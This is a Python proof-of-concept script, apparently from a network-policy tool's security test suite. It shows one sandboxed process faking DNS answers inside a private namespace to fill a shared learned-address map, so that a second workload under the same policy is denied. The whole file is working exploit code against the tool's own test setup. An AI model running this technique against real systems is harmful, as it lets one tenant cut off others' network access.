#!/usr/bin/env python3
"""ATTACK 3 (unprivileged process in target A): fill the policy's shared `learned` map
(spec.dns.maxLearned, default 65,536 entries, one map per policy, all targets together) so
that target B of the same policy learns nothing: B's `allow` by name refuses every address
B resolves correctly until A's entries expire (maxTTL, default 3600 s) AND the service
deletes them; A may refill at once.

A fills it with attack 1's private-namespace self-answer, 16 addresses per answer (4,096
answers). Without that hole, a workload can do the same through the real resolver with a
wildcard rule (`*.example.test`) and names whose answers carry many addresses, only slower.

Run as root: .venv/bin/python attack/learned_fill_dos.py   (exit 0 = B was denied)
"""

from __future__ import annotations

import json
import sys

import common
from resolver import Resolver

RESOLVER = "127.77.1.53"
CLIENT = str(common.REPO / "attack/client.py")
PY = "/usr/bin/python3"

FILLER = r'''
import socket, struct, subprocess, sys
RESOLVER = sys.argv[1]
subprocess.run(["ip", "link", "set", "lo", "up"], check=True)
subprocess.run(["ip", "addr", "add", RESOLVER + "/32", "dev", "lo"], check=True)
sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
sock.bind((RESOLVER, 53))
name = b"\x04fill\x07example\x04test\x00"
sent = 0
for n in range(4200):
    qid = n & 0xFFFF
    q = struct.pack("!HHHHHH", qid, 0x0100, 1, 0, 0, 0) + name + struct.pack("!HH", 1, 1)
    sock.sendto(q, (RESOLVER, 53)); sock.recvfrom(4096)
    ans = q[:2] + struct.pack("!HHHHH", 0x8180, 1, 16, 0, 0) + q[12:]
    for i in range(16):
        addr = (10 << 24) | (n * 16 + i)
        ans += struct.pack("!HHHIH", 0xC00C, 1, 1, 86400, 4) + addr.to_bytes(4, "big")
    sock.sendto(ans, (RESOLVER, 53)); sock.recvfrom(4096)
    sent += 1
print(sent)
'''


def main() -> int:
    cgs = common.setup("a", "b")
    spec = {
        "sockets": {"connect": {"default": "deny", "rules": [
            {"action": "allow", "protocol": "udp", "cidrs": [f"{RESOLVER}/32"], "ports": [53]},
            {"action": "allow", "ports": [443], "fqdns": ["*.example.test"]}]}}
    }
    common.cli("apply", str(common.write_policy("fill", common.policy("attack-fill", [cgs["a"], cgs["b"]], spec))))
    server = Resolver(RESOLVER)
    before = json.loads(common.in_cgroup(cgs["b"], [PY, CLIENT, "resolve", RESOLVER, "b-before.example.test"]).stdout)
    print("B before:", before)
    script = f"/tmp/{common.TAG}-filler.py"
    open(script, "w").write(FILLER)
    done = common.in_cgroup(cgs["a"], ["unshare", "-Urn", PY, script, RESOLVER])
    print("A's answers:", done.stdout.strip(), done.stderr.strip()[-300:])
    for row in common.learned_rows():
        print("map:", {k: row[k] for k in ("capacity", "entries", "full", "learned", "refused_full")})
    after = json.loads(common.in_cgroup(cgs["b"], [PY, CLIENT, "resolve", RESOLVER, "b-after.example.test"]).stdout)
    print("B after: ", after)
    broke = before[0][2] == "ok" and after[0][2] != "ok"
    print("RESULT:", "BROKE (cross-target DoS: learned map full)" if broke else "held")
    server.close()
    return 0 if broke else 1


if __name__ == "__main__":
    sys.exit(main())
